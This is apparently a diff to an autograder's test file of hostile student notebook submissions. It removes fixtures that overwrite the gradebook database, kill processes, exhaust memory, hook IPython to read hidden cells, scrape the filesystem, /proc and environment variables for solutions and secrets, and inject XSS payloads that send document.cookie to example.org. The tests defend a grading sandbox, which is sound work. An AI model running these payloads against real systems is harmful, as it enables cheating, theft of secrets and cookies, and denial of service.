@@ -1,8 +1,4 @@
-"""Submissions that want marks, secrets, other people's grades or the instructor's browser.
-
-Each earns nothing by itself: beside the attack its answers are blank or wrong, so any point is
-the attack's. What a student must never read is tested for every submission alike.
-"""
+"""For marks: answers and reports that only look right."""
 
 from __future__ import annotations
 
@@ -10,11 +6,10 @@ import base64
 import json
 from textwrap import dedent
 
-from nbformat.v4 import new_code_cell, new_markdown_cell, new_output
+from nbformat.v4 import new_output
 
 from benchmarks.students import (
     NAME,
-    ROOT,
     answer,
     answer_ids,
     answer_wrongly,
@@ -24,22 +19,8 @@ from benchmarks.students import (
     solve,
 )
 from grading.grade import Status
-from tests.grading.handing_in import ALL, Work, check_cells, submission, tests_of_answers
-
-
-def attack(work: Work, code: str) -> None:
-    """Wrong answers everywhere, and ``code`` before the first."""
-    answer_wrongly(work.notebook)
-    before(work, answer_ids()[0], code)
-
-
-def before(work: Work, grade_id: str, code: str) -> None:
-    """Put ``code`` before an answer, in its cell."""
-    cell = find(work.notebook, grade_id)
-    cell.source = dedent(code).strip() + "\n" + cell.source
-
-
-# For marks.
+from tests.grading.handing_in import Work, check_cells, submission, tests_of_answers
+from tests.grading.hostile.attack import attack, before
 
 
 @submission(quick=True)
@@ -297,225 +278,3 @@ def link_as_folder(work: Work) -> None:
     """The assignment's folder is itself a link to the solution's: nothing."""
     work.folder.rmdir()
     work.folder.symlink_to(work.course / "solutions" / NAME, target_is_directory=True)
-
-
-# For other people's grades, and for the batch.
-
-
-@submission()
-def writes_the_gradebook(work: Work) -> None:
-    """Looks for gradebook.db and gives everyone full points: nobody's grade moves."""
-    attack(
-        work,
-        f"""
-        import sqlite3
-        from pathlib import Path
-        places = [Path({str(work.course)!r}), Path({str(ROOT)!r}), *Path.cwd().parents]
-        for place in places:
-            for path in [place / "gradebook.db", *place.glob("*/gradebook.db")]:
-                try:
-                    with sqlite3.connect(path, timeout=1) as book:
-                        book.execute("UPDATE grade SET manual_score = 100, auto_score = 100")
-                    print("wrote", path)
-                except sqlite3.Error as error:
-                    print(path, error)
-        """,
-    )
-
-
-@submission(quick=True, status=Status.ATTENTION)
-def ends_the_process(work: Work) -> None:
-    """os._exit(0) in the first answer: a reason, and no points."""
-    attack(work, "import os\nos._exit(0)")
-
-
-@submission(status=Status.ATTENTION)
-def kills_everything(work: Work) -> None:
-    """Sends SIGKILL to every process that it may, its own last: a reason, and no points."""
-    attack(
-        work,
-        """
-        import os, signal
-        for process in (-1, 1, os.getppid(), os.getpid()):
-            try:
-                os.kill(process, signal.SIGKILL)
-            except OSError as error:
-                print(process, error)
-        """,
-    )
-
-
-# Which wall stops it first, memory or time, depends on how fast the machine is just then.
-@submission(status=(Status.GRADED, Status.WARNINGS, Status.ATTENTION))
-def memory_hog(work: Work) -> None:
-    """Takes all the memory there is: no points, whichever wall stops it."""
-    attack(work, "hoard = []\nwhile True:\n    hoard.append(b'x' * (64 << 20))")
-
-
-# Here too: IPython keeps what was printed, so memory may end before the time does.
-@submission(status=(Status.WARNINGS, Status.ATTENTION))
-def endless_output(work: Work) -> None:
-    """Prints for ever: cut off, and stopped with a reason."""
-    attack(work, "while True:\n    print('x' * 100)")
-
-
-@submission(status=Status.ATTENTION)
-def loop_that_catches_everything(work: Work) -> None:
-    """An endless loop that swallows every interrupt: a reason, and no points."""
-    attack(
-        work,
-        """
-        import signal
-        for number in range(1, 32):
-            try:
-                signal.signal(number, signal.SIG_IGN)
-            except (OSError, ValueError):
-                pass
-        while True:
-            try:
-                while True:
-                    pass
-            except BaseException:
-                pass
-        """,
-    )
-
-
-# For what is hidden.
-
-PRINT_WHAT_PASSES = """
-import gc, inspect, sys
-from IPython.display import display
-
-shell = get_ipython()
-window = display("waiting", display_id=True)
-seen = []
-
-def look(lines):
-    seen.append("".join(lines))
-    print("TRANSFORMER", "".join(lines))
-    return lines
-
-def before(info):
-    seen.append(info.raw_cell)
-    print("PRE_RUN_CELL", info.raw_cell)
-
-def after(result):
-    frame = inspect.currentframe()
-    while frame:
-        seen.append(repr(dict(frame.f_locals))[:20_000])
-        frame = frame.f_back
-    tables = [thing for thing in gc.get_objects() if type(thing) is dict]
-    texts = [text for table in tables for text in list(table.values()) if type(text) is str]
-    seen.extend(text for text in texts if "check(" in text)
-    window.update("\\n".join(seen))
-
-shell.input_transformers_cleanup.append(look)
-shell.events.register("pre_run_cell", before)
-shell.events.register("post_run_cell", after)
-"""
-
-
-@submission(right=ALL)
-def prints_later_cells(work: Work) -> None:
-    """Hooks print every later cell, backwards through a display update too; right otherwise."""
-    solve(work.notebook)
-    before(work, answer_ids()[0], PRINT_WHAT_PASSES)
-
-
-@submission()
-def reads_the_solutions(work: Work) -> None:
-    """Walks to the solutions, the grader and other submissions, and prints what it finds."""
-    attack(
-        work,
-        f"""
-        import os, sys
-        from pathlib import Path
-        import grading
-        places = [{str(work.course)!r}, {str(ROOT)!r}, "/work", "/home", "/tmp", "/srv", "/root",
-                  "/run", "/var", ".", "..", str(Path(grading.__file__).parents[1])]
-        for place in places:
-            for folder, folders, files in os.walk(place):
-                folders[:] = [name for name in folders if "packages" not in name]
-                for name in files:
-                    if name.endswith((".ipynb", ".toml", ".db", ".md")) or "secret" in name:
-                        print(folder, name, Path(folder, name).read_bytes()[:100_000])
-        for name in ("environ", "cmdline", "maps", "mountinfo"):
-            for process in ("self", "1"):
-                try:
-                    print(Path("/proc", process, name).read_text(errors="replace"))
-                except OSError as error:
-                    print(error)
-        print(dict(os.environ), sys.argv)
-        """,
-    )
-
-
-@submission()
-def prints_what_the_process_knows(work: Work) -> None:
-    """Prints check's module, its key, the runner's frames and every string with a test's name."""
-    attack(
-        work,
-        f"""
-        import gc, sys
-        for name, module in list(sys.modules.items()):
-            if name.startswith(("grading", "__main__", "runner")):
-                print(name, {{key: repr(value)[:2000] for key, value in vars(module).items()}})
-        frame = sys._getframe()
-        while frame:
-            print(frame.f_code.co_filename, repr(frame.f_locals)[:20_000])
-            frame = frame.f_back
-        for thing in gc.get_objects():
-            try:
-                text = repr(thing)[:20_000]
-            except Exception:
-                continue
-            if any(name in text for name in {check_cells()!r}):
-                print(text)
-        """,
-    )
-
-
-# For the instructor's browser.
-
-SCRIPT = "window.hacked = true; fetch('https://example.org/?' + document.cookie)"
-INJECTIONS = [
-    f"<script>{SCRIPT}</script>",
-    f'<img src="x" onerror="{SCRIPT}">',
-    f'<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>',
-    f'<iframe srcdoc="&lt;script&gt;parent.{SCRIPT}&lt;/script&gt;"></iframe>',
-    f'<details open ontoggle="{SCRIPT}">x</details>',
-    f'<a href="javascript:{SCRIPT}" id="bait">look</a>',
-    f"[look](javascript:{SCRIPT.replace(' ', '%20')})",
-    "![](https://example.org/pixel.png)",
-    f"`</code></pre><script>{SCRIPT}</script>`",
-    f'</textarea></script><script>{SCRIPT}</script><style>@import "https://example.org/x";</style>',
-    f"$\\href{{javascript:{SCRIPT}}}{{x}}$",
-]
-
-
-@submission()
-def scripts_for_readers(work: Work) -> None:
-    """HTML, SVG, JavaScript and links wherever text can stand: inert, and nothing earned."""
-    lines = "\n".join(INJECTIONS)
-    attack(
-        work,
-        f"""
-        from IPython.display import HTML, SVG, Javascript, Markdown, display
-        for text in {INJECTIONS!r}:
-            print(text)
-            display(HTML(text))
-            display(Markdown(text))
-            display({{"image/svg+xml": text, "text/html": text, "text/latex": text,
-                      "application/javascript": {SCRIPT!r}}}, raw=True)
-        display(Javascript({SCRIPT!r}))
-        print("\\x1b[31m<script>{SCRIPT}</script>\\x1b[0m")
-        """,
-    )
-    work.notebook.cells.insert(1, new_markdown_cell(lines))
-    work.notebook.cells.insert(2, new_code_cell(f'raise ValueError("""{INJECTIONS[1]}""")'))
-    for cell in work.notebook.cells:
-        if cell.cell_type == "markdown" and cell.metadata.get("nbgrader", {}).get("solution"):
-            cell.source = lines
-    work.notebook.metadata["title"] = INJECTIONS[0]
-    work.notebook.metadata["widgets"] = json.loads('{"x": "</script>"}')
